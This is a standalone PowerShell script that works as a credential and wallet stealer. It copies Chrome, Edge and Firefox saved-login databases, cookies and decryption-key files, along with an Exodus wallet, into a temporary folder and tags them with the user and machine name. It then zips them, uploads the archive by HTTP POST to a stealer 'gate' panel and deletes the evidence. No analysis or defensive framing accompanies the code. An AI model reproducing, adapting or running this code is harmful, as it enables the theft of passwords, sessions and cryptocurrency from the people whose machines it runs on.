$stage = Join-Path $env:TEMP ([guid]::NewGuid().ToString('N'))
New-Item -ItemType Directory -Path $stage | Out-Null
$targets = @{
  'chrome_login'  = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data"
  'chrome_cookie' = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Network\Cookies"
  'chrome_state'  = "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State"
  'edge_login'    = "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default\Login Data"
  'edge_state'    = "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Local State"
}
foreach ($k in $targets.Keys) {
  if (Test-Path $targets[$k]) { Copy-Item $targets[$k] "$stage\$k" -Force -ErrorAction SilentlyContinue }
}
Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Recurse -Include 'logins.json','key4.db','cookies.sqlite' -ErrorAction SilentlyContinue |
  ForEach-Object { Copy-Item $_.FullName "$stage\ff_$($_.Name)" }
Get-ChildItem "$env:APPDATA\Exodus\exodus.wallet" -ErrorAction SilentlyContinue | Copy-Item -Destination $stage
"$env:USERNAME@$env:COMPUTERNAME" | Out-File "$stage\id.txt"
Compress-Archive -Path "$stage\*" -DestinationPath "$stage.zip" -Force
Invoke-RestMethod -Uri 'http://panel.stealer-logs.invalid/gate.php' -Method Post -InFile "$stage.zip" -ContentType 'application/zip'
Remove-Item $stage, "$stage.zip" -Recurse -Force
